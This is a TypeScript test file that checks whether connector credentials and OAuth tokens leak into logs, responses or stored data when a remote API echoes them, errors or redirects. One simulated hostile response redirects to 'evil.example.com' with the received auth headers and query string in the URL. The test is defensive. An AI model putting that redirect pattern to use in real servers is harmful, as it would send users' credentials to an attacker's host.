/** P7 where values leave: through connectors, to systems that echo, refuse, fail and hang up. */

import { inspect as print } from "node:util";
import { afterAll, afterEach, beforeAll, expect, it, vi } from "vitest";

import { connectorsOf } from "../features/connectors/support.ts";
import { seedHouse } from "../features/secrets/support.ts";
import { dumpEverything } from "../support/dump.ts";
import { findForms } from "../support/encodings.ts";
import { startOutside, type Outside, type Received } from "../support/outside.ts";
import { startPool, type Pool } from "../support/tokens.ts";

/** What a header takes, with something different in each form of it. */
const newCanary = () => `canary-"${crypto.randomUUID()}"\\+/?&=<${crypto.randomUUID()}>`;

const SCHEMES = [
  { scheme: "bearer" },
  { scheme: "basic", username: "ada" },
  { scheme: "header", name: "x-api-key" },
  { scheme: "query", name: "api_key" },
] as const;

let pool: Pool;
let outside: Outside;
let seen: string[];

beforeAll(async () => {
  pool = await startPool();
  outside = startOutside();
});
afterAll(() => vi.unstubAllGlobals());
afterEach(() => {
  vi.useRealTimers();
  vi.restoreAllMocks();
});

/** Attack: the other system, or who took it over, sends back what it got, where it thinks that nobody looks. */
const ECHOES: readonly ((received: Received, all: string) => Response)[] = [
  (_, all) => new Response(all),
  (_, all) => Response.json({ [all]: [all, { deep: all }] }),
  (_, all) => Response.json({ error: all, message: all }, { status: 401 }),
  ({ headers }) => new Response(null, { status: 403, headers: { "x-echo": toHeader(headers) } }),
  (_, all) => new Response(new TextEncoder().encode(`\0${all}`)),
  (_, all) => {
    throw new Error(`Network connection lost: ${all}`);
  },
  ({ url, headers }) =>
    new Response(null, {
      status: 302,
      headers: {
        location: `https://evil.example.com/?${encodeURIComponent(toHeader(headers))}&${new URL(url).search.slice(1)}`,
      },
    }),
];

function toHeader(headers: Headers): string {
  return [...headers].map(([name, value]) => `${name}: ${value}`).join("; ");
}

it.each(SCHEMES)("P7: a value that is sent as $scheme is seen nowhere but there", async (auth) => {
  seen = [];
  watch();
  outside.reset();
  const canary = newCanary();
  const house = await seedHouse(pool);
  const owner = connectorsOf(house.owner);
  await owner.secret("token", { value: canary });
  await owner.create({
    ...{ slug: "api", name: "API", type: "http", baseUrl: "https://api.example.com" },
    auth: { ...auth, secret: "token" },
  });
  let sent = 0;
  outside.on("evil.example.com", () => new Response("?"));
  for (const echo of ECHOES) {
    outside.on("api.example.com", (received) => {
      const all = [received.url, decodeURIComponent(received.url), toHeader(received.headers)];
      if (findForms(all.join(), canary).length > 0) sent++;
      return echo(received, [...all, canary, encodeURIComponent(canary)].join("\n"));
    });
    for (const answer of [await owner.invoke({ path: "/x" }, "api"), await owner.test("api")]) {
      seen.push(`${answer.status} ${JSON.stringify([...answer.headers])} ${answer.text}`);
    }
  }
  // It did go there.
  expect(sent).toBe(2 * ECHOES.length);
  const elsewhere = outside.received.filter(({ url }) => !url.startsWith("https://api.example"));
  seen.push(JSON.stringify(elsewhere.map(({ url, headers }) => [url, [...headers]])));
  for (const part of [canary, ...(canary.match(/[0-9a-f-]{36}/g) ?? [])]) {
    expect(findForms([await dumpEverything(), ...seen].join("\n"), part)).toEqual([]);
  }
});

it("P7: of an exchange neither token nor the client's secret is seen anywhere, whatever the provider answers", async () => {
  seen = [];
  watch();
  outside.reset();
  const canaries = Array.from({ length: 4 }, () => `canary-${crypto.randomUUID()}`);
  const [refresh = "", client = "", rotated = "", access = ""] = canaries;
  const house = await seedHouse(pool);
  const owner = connectorsOf(house.owner);
  await owner.secret("refresh", { value: refresh });
  await owner.secret("client", { value: client });
  await owner.create({
    ...{ slug: "api", name: "API", type: "http", baseUrl: "https://api.example.com" },
    auth: {
      ...{ scheme: "oauth2_refresh", tokenUrl: "https://auth.example.com/token", clientId: "c" },
      ...{ secret: "refresh", clientSecret: "client" },
    },
  });
  outside.on("api.example.com", (received) =>
    Response.json({ all: [...canaries, toHeader(received.headers)] }),
  );
  const answers: ((body: string) => Response)[] = [
    (body) => Response.json({ error: body, error_description: body }, { status: 400 }),
    (body) => new Response(body, { status: 500 }),
    (body) => {
      throw new Error(`Network connection lost: ${body}`);
    },
    () => Response.json({ access_token: access, refresh_token: rotated, expires_in: 60 }),
    () => Response.json({ error: "invalid_grant" }, { status: 400 }),
  ];
  for (const answer of answers) {
    outside.on("auth.example.com", ({ body }) => answer(body));
    for (const { status, headers, text } of [
      await owner.invoke({ path: "/x" }, "api"),
      await owner.test("api"),
    ]) {
      seen.push(`${status} ${JSON.stringify([...headers])} ${text}`);
    }
    vi.setSystemTime(Date.now() + 61_000);
  }
  expect(seen.join("\n")).toContain("Bearer");
  const everything = [await dumpEverything(), ...seen].join("\n");
  for (const canary of canaries) expect(findForms(everything, canary)).toEqual([]);
});

function watch(): void {
  for (const level of ["log", "info", "debug", "warn", "error"] as const) {
    vi.spyOn(console, level).mockImplementation((...args) => {
      seen.push(args.map((arg) => (typeof arg === "string" ? arg : print(arg))).join(" "));
    });
  }
}
